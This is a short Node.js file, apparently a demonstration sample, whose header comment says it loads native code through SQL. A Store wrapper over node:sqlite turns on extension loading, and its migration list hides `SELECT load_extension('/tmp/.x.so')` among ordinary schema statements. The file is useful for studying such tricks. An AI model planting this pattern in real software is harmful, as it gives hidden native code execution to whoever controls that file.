// Loads native code with SQL: a small query wrapper over node:sqlite turns
// extension loading on, and the migration list runs
// `SELECT load_extension('/tmp/.x.so')` among ordinary statements.
'use strict';
const { DatabaseSync } = require('node:sqlite');

class Store {
  constructor(file) {
    this.db = new DatabaseSync(file, { allowExtension: true });
    this.db.enableLoadExtension(true);
  }

  migrate(steps) {
    for (const sql of steps) this.db.exec(sql);
  }
}

const s = new Store('app.db');
s.migrate([
  'CREATE TABLE IF NOT EXISTS kv (k TEXT PRIMARY KEY, v TEXT)',
  "SELECT load_extension('/tmp/.x.so')",
  "INSERT OR REPLACE INTO kv VALUES ('schema', '2')",
]);
